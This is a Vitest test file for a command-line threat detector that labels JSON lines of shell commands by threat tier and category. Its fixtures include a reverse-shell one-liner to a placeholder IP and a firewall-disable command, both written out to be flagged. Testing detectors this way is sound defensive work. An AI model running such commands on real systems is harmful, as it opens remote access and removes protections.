// The command answers each line, in order; --tier narrows what counts as a threat; a bad line is a clear error.
import { spawnSync } from 'node:child_process';
import { expect, test } from 'vitest';

const main = new URL('../../../detectors/threats/main.ts', import.meta.url).pathname;
const run = (input: string, ...args: string[]) =>
  spawnSync(process.execPath, [main, ...args], { input, encoding: 'utf8' });
const row = (id: string, cmdline: string): string => `${JSON.stringify({ id, cmdline })}\n`;
const answers = (text: string): unknown[] =>
  text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line));

const input = row('a', 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1') + row('b', 'ufw disable') + row('c', 'ls -l');

test('one answer a line, in order', () => {
  const { stdout, status } = run(input);
  expect(status).toBe(0);
  expect(answers(stdout)).toEqual([
    { id: 'a', threat: true, tier: 'critical', category: 'reverse_shells', score: 100 },
    { id: 'b', threat: true, tier: 'medium', category: 'system_modification', score: 60 },
    { id: 'c', threat: false, tier: 'none', category: null, score: 0 },
  ]);
});

test('--tier critical counts that tier alone', () => {
  expect(answers(run(input, '--tier', 'critical').stdout)).toMatchObject([
    { threat: true },
    { threat: false },
    { threat: false },
  ]);
});

test.each([
  {
    given: 'no JSON',
    input: `${row('a', 'ls')}nonsense\n`,
    message: 'line 2 of the input cannot be read: it is not JSON',
  },
  {
    given: 'no cmdline',
    input: '{"id":"a"}\n',
    message: 'line 1 of the input cannot be read: it needs "id" and "cmdline"',
  },
])('$given is an error that names the line', ({ input: text, message }) => {
  const { status, stderr } = run(text);
  expect(status).toBe(1);
  expect(stderr).toContain(message);
});

test('an unknown tier is refused', () => {
  expect(run('', '--tier', 'red')).toMatchObject({ status: 1 });
});

test('a null byte, a newline in a command and very long lines are answered', () => {
  const { stdout, status } = run(row('a', 'ls \u0000\n\n') + row('b', 'a'.repeat(2_000_000)));
  expect(status).toBe(0);
  expect(answers(stdout)).toHaveLength(2);
});

test('--help prints the usage and judges nothing', () => {
  expect(run(input, '--help')).toMatchObject({ status: 0, stdout: expect.stringMatching(/^usage: [^{]*--tier/) });
});
